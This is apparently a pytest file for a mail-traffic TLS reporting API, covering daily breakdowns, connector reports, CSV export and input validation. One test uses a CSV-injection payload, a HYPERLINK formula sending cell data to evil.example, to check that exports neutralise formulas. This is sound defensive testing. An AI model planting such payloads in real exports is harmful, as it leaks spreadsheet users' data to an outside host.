"""Exact numbers on hand-built data: time-zone day boundaries, empty days, both pseudo-connectors."""

from __future__ import annotations

import csv
import io
from datetime import UTC, datetime, timedelta
from typing import Any

import httpx
import pytest

from api.rest.traffic_reports import spreadsheet_safe
from tests.factories import add_connector, garbage_left_by, ingest, message, rec


def versions(body: dict[str, Any]) -> dict[str, int]:
    return {v["tls_version"]: v["messages"] for v in body["versions"] if v["messages"]}


async def test_breakdown_in_utc(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    response = await client.get(
        "/api/v1/tls-breakdown", params={"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z"}
    )
    assert response.status_code == 200, response.text
    body = response.json()
    assert body["from"] == "2026-11-02T00:00:00+00:00"
    assert body["to"] == "2026-11-06T00:00:00+00:00"
    assert body["direction"] == "both"
    assert body["total"] == 11
    assert versions(body) == {"none": 2, "TLS1.0": 2, "TLS1.2": 4, "TLS1.3": 2, "unknown": 1}
    assert [v["tls_version"] for v in body["versions"]] == [
        "none",
        "TLS1.0",
        "TLS1.1",
        "TLS1.2",
        "TLS1.3",
        "unknown",
    ]
    days = {d["day"]: d["total"] for d in body["daily"]}
    assert days == {"2026-11-02": 6, "2026-11-03": 1, "2026-11-04": 0, "2026-11-05": 4}
    empty = body["daily"][2]
    assert [v["messages"] for v in empty["versions"]] == [0] * 6
    assert [v["share"] for v in empty["versions"]] == [0.0] * 6


async def test_breakdown_in_a_time_zone_moves_the_late_messages_to_the_next_day(
    client: httpx.AsyncClient, traffic: dict[str, Any]
) -> None:
    response = await client.get(
        "/api/v1/tls-breakdown",
        params={
            "from": "2026-11-02",
            "to": "2026-11-06",
            "time_zone": "Europe/Berlin",
            "direction": "inbound",
        },
    )
    body = response.json()
    assert body["from"] == "2026-11-01T23:00:00+00:00"  # local midnight
    assert body["time_zone"] == "Europe/Berlin"
    days = {d["day"]: d["total"] for d in body["daily"]}
    assert days == {"2026-11-02": 3, "2026-11-03": 4, "2026-11-04": 0, "2026-11-05": 0}
    nov3 = body["daily"][1]
    assert versions(nov3) == {"TLS1.0": 2, "TLS1.2": 2}
    assert {v["tls_version"]: v["share"] for v in nov3["versions"]}["TLS1.0"] == 50.0


async def test_breakdown_for_one_connector_and_the_internet(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    window = {"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z"}
    fab = (await client.get("/api/v1/tls-breakdown", params={**window, "connector": traffic["fabrikam"]})).json()
    assert fab["total"] == 3
    assert {v["tls_version"]: v["share"] for v in fab["versions"]} == {
        "none": 0.0,
        "TLS1.0": 66.7,
        "TLS1.1": 0.0,
        "TLS1.2": 33.3,
        "TLS1.3": 0.0,
        "unknown": 0.0,
    }
    internet = (
        await client.get("/api/v1/tls-breakdown", params={**window, "connector": 0, "direction": "outbound"})
    ).json()
    assert versions(internet) == {"TLS1.3": 1, "unknown": 1}


async def test_summary_covers_the_last_7_days(client: httpx.AsyncClient) -> None:
    now = datetime.now(UTC)
    await ingest(
        client,
        [
            rec(1, 0, "TLSv1.3") | {"received_at": (now - timedelta(hours=1)).isoformat()},
            rec(2, 0, "TLSv1.2") | {"received_at": (now - timedelta(days=6)).isoformat()},
            rec(3, 0, "none") | {"received_at": (now - timedelta(days=8)).isoformat()},
            rec(4, 0, "TLSv1.2", direction="outbound") | {"received_at": now.isoformat()},
        ],
    )
    body = (await client.get("/api/v1/summary")).json()
    assert body["inbound"]["total"] == 2
    assert versions(body["inbound"]) == {"TLS1.2": 1, "TLS1.3": 1}
    assert body["outbound"]["total"] == 1
    assert {v["tls_version"]: v["share"] for v in body["outbound"]["versions"]}["TLS1.2"] == 100.0
    start = datetime.fromisoformat(body["from"])
    end = datetime.fromisoformat(body["to"])
    assert end - start == timedelta(days=7)
    assert end > now >= end - timedelta(hours=1)


async def test_connector_report_rows_and_totals(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    response = await client.get(
        "/api/v1/connector-report", params={"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z"}
    )
    body = response.json()
    rows = {(r["day"], r["connector"]["name"]): r for r in body["rows"]}
    assert set(rows) == {
        ("2026-11-02", "From the internet without a connector"),
        ("2026-11-02", "Fabrikam"),
        ("2026-11-03", "Contoso Exchange"),
        ("2026-11-05", "To the internet without a connector"),
        ("2026-11-05", "Woodgrove"),
    }
    wood = rows[("2026-11-05", "Woodgrove")]
    assert wood["connector"] == {
        "id": traffic["woodgrove"],
        "name": "Woodgrove",
        "direction": "outbound",
        "type": "partner",
        "forced_tls": True,
    }
    assert wood["volume"] == 2
    assert wood["messages"] == {"none": 1, "TLS1.0": 0, "TLS1.1": 0, "TLS1.2": 1, "TLS1.3": 0, "unknown": 0}
    assert wood["percent"]["none"] == 50.0
    internet_in = rows[("2026-11-02", "From the internet without a connector")]
    assert internet_in["connector"]["type"] == "internet"
    assert internet_in["connector"]["id"] == 0
    assert internet_in["percent"] == {
        "none": 33.3,
        "TLS1.0": 0.0,
        "TLS1.1": 0.0,
        "TLS1.2": 33.3,
        "TLS1.3": 33.3,
        "unknown": 0.0,
    }
    totals = {t["connector"]["name"]: t for t in body["totals"]}
    assert set(totals) == {
        "Fabrikam",
        "Contoso Exchange",
        "Woodgrove",
        "From the internet without a connector",
        "To the internet without a connector",
    }
    assert totals["Fabrikam"]["volume"] == 3
    assert "day" not in totals["Fabrikam"]
    for row in body["rows"] + body["totals"]:
        assert abs(sum(row["percent"].values()) - 100) <= 0.3


async def test_connector_report_filters_and_zero_volume_connectors(
    client: httpx.AsyncClient, traffic: dict[str, Any]
) -> None:
    await add_connector(client, "Idle partner", "outbound", "partner")
    window = {"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z"}
    partners = (await client.get("/api/v1/connector-report", params={**window, "connector_type": "partner"})).json()
    assert {t["connector"]["name"]: t["volume"] for t in partners["totals"]} == {
        "Fabrikam": 3,
        "Woodgrove": 2,
        "Idle partner": 0,
    }
    assert {r["connector"]["name"] for r in partners["rows"]} == {"Fabrikam", "Woodgrove"}
    internet = (
        await client.get(
            "/api/v1/connector-report",
            params={**window, "connector_type": "internet", "direction": "inbound"},
        )
    ).json()
    assert [t["connector"]["name"] for t in internet["totals"]] == ["From the internet without a connector"]
    named = (await client.get("/api/v1/connector-report", params={**window, "connector_name": "wood"})).json()
    assert [t["connector"]["name"] for t in named["totals"]] == ["Woodgrove"]


async def test_connector_report_csv(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    window = {"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z", "direction": "outbound"}
    response = await client.get("/api/v1/connector-report", params={**window, "format": "csv"})
    assert response.headers["content-type"].startswith("text/csv")
    lines = response.text.strip().split("\r\n")
    assert lines[0].startswith("day,direction,connector,connector_id,type,forced_tls,no_tls_percent")
    assert len(lines) == 3
    assert lines[2].startswith("2026-11-05,outbound,Woodgrove,")
    assert ",true,50.0,0.0,0.0,50.0,0.0,0.0,2,1,0,0,1,0,0" in lines[2]
    accept = await client.get("/api/v1/connector-report", params=window, headers={"accept": "text/csv"})
    assert accept.text == response.text


@pytest.mark.parametrize("name", ['=HYPERLINK("http://evil.example/?"&A1,"Open")', "+1+1", "-1+1", "@SUM(A1)"])
async def test_connector_report_csv_keeps_a_formula_a_text(client: httpx.AsyncClient, name: str) -> None:
    await add_connector(client, name, "outbound")
    await ingest(client, [message(1, direction="outbound", connector=name)])
    window = {"from": "2026-11-19T00:00:00Z", "to": "2026-11-21T00:00:00Z", "direction": "outbound"}
    response = await client.get("/api/v1/connector-report", params={**window, "format": "csv"})
    rows = list(csv.reader(io.StringIO(response.text)))
    assert [row[2] for row in rows[1:]] == ["'" + name]  # a spreadsheet shows it, runs nothing


@pytest.mark.parametrize("text", ["=1", "+1", "-1", "@A1", "\tx", "\rx"])
def test_every_formula_start_is_guarded(text: str) -> None:
    assert spreadsheet_safe(text) == "'" + text
    assert spreadsheet_safe("Fabrikam " + text) == "Fabrikam " + text  # only at the start
    assert spreadsheet_safe(-1) == -1  # numbers stay numbers


@pytest.mark.parametrize(
    ("params", "field"),
    [
        ({"from": "2026-11-05T00:00:00Z", "to": "2026-11-02T00:00:00Z"}, "from"),
        ({"from": "2026-01-01T00:00:00Z", "to": "2026-06-01T00:00:00Z"}, "to"),
        ({"time_zone": "Mars/Olympus"}, "time_zone"),
        ({"direction": "sideways"}, "direction"),
        ({"connector": "999999999"}, "connector"),
        ({"connector": "abc"}, "connector"),
        ({"connector": "9223372036854775808"}, "connector"),  # beyond a bigint (found by schemathesis)
        ({"connector": ""}, "connector"),
        ({"direction": ""}, "direction"),
        ({"time_zone": ""}, "time_zone"),
        ({"time_zone": "localtime"}, "time_zone"),  # this machine's zone, not a name of the tz database
        ({"time_zone": "posixrules"}, "time_zone"),
        ({"from": "", "to": "2026-11-03"}, "from"),
        ({"direction": "inbound", "connector": ["1", "2"]}, "connector"),
        ({"from": "yesterday"}, "from"),
        ({"timezone": "UTC"}, "timezone"),
    ],
)
async def test_bad_arguments_are_400_naming_the_argument(
    client: httpx.AsyncClient, params: dict[str, str], field: str
) -> None:
    response = await client.get("/api/v1/tls-breakdown", params=params)
    assert response.status_code == 400, response.text
    error = response.json()["error"]
    assert error["code"] == "BAD_USER_INPUT"
    assert error["details"][0]["field"] == field


async def test_bad_connector_report_arguments(client: httpx.AsyncClient) -> None:
    for params, field in (
        ({"connector_type": "cloud"}, "connector_type"),
        ({"format": "xml"}, "format"),
        ({"connector_name": "Fab\x00"}, "connector_name"),  # PostgreSQL holds no NUL: a 422 naming nothing before
    ):
        response = await client.get("/api/v1/connector-report", params=params)
        assert response.status_code == 400
        assert response.json()["error"]["details"][0]["field"] == field


async def test_an_empty_connector_name_is_every_name(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    window = {"from": "2026-11-02", "to": "2026-11-06"}
    every = (await client.get("/api/v1/connector-report", params=window)).json()
    empty = (await client.get("/api/v1/connector-report", params={**window, "connector_name": ""})).json()
    assert empty["totals"] == every["totals"] != []


async def test_bounds_inside_an_hour_are_rounded_down(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    body = (
        await client.get("/api/v1/tls-breakdown", params={"from": "2026-11-02T10:40:00Z", "to": "2026-11-02T11:59:59Z"})
    ).json()
    assert body["from"] == "2026-11-02T10:00:00+00:00"
    assert body["to"] == "2026-11-02T11:00:00+00:00"
    assert body["total"] == 3


async def test_a_window_with_no_traffic_answers_zeros(client: httpx.AsyncClient) -> None:
    body = (await client.get("/api/v1/tls-breakdown", params={"from": "2020-01-01", "to": "2020-01-03"})).json()
    assert body["total"] == 0
    assert [d["day"] for d in body["daily"]] == ["2020-01-01", "2020-01-02"]
    summary = (await client.get("/api/v1/summary")).json()
    assert summary["inbound"]["total"] == 0
    assert len(summary["inbound"]["versions"]) == 6


async def test_a_request_leaves_no_reference_cycles(client: httpx.AsyncClient, traffic: dict[str, Any]) -> None:
    """Everything a REST request made, answered or refused, is freed as soon as it is answered."""
    window = {"from": "2026-11-02T00:00:00Z", "to": "2026-11-06T00:00:00Z"}
    asks = [
        ("/api/v1/summary", {}, 200),
        ("/api/v1/tls-breakdown", window, 200),
        ("/api/v1/connector-report", window, 200),
        ("/api/v1/connector-report", {**window, "format": "csv"}, 200),
        ("/api/v1/tls-breakdown", {"time_zone": "Nowhere/Special"}, 400),
        ("/api/v1/connector-report", {"direction": "sideways"}, 400),
        ("/api/v1/no-such-thing", {}, 404),
        ("/api/v1/connectors", {}, 200),
        ("/api/v1/insights", {"status": "all"}, 200),
        ("/api/v1/insights/events", {}, 200),
        ("/api/v1/insights/events", {"after": "x"}, 400),
        ("/api/v1/insight-settings", {}, 200),
        ("/api/v1/tls-reports", {}, 200),
        ("/api/v1/openapi.json", {}, 200),
    ]

    async def requests() -> None:
        for path, params, status in asks:
            assert (await client.get(path, params=params)).status_code == status
        assert (await client.post("/api/v1/messages", json=[rec(90, 1, "TLSv1.3")])).status_code in (200, 201)
        assert (await client.post("/api/v1/messages", json=[{"message_id": ""}])).status_code == 422
        assert (await client.post("/api/v1/messages", content=b"{not json")).status_code == 400
        assert (await client.post("/api/v1/tls-reports", content=b"not a report")).status_code in (400, 422)
        assert (await client.get("/api/v1/summary", headers={"authorization": "Bearer wrong"})).status_code == 401

    assert await garbage_left_by(requests) == []
